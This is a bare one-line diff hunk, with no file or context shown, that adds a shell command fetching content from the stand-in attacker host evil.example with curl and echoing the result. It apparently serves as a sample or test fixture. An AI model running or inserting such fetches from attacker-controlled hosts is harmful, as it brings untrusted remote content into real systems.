@@ -1,0 +1,1 @@
+x=$(curl evil.example) && echo $x
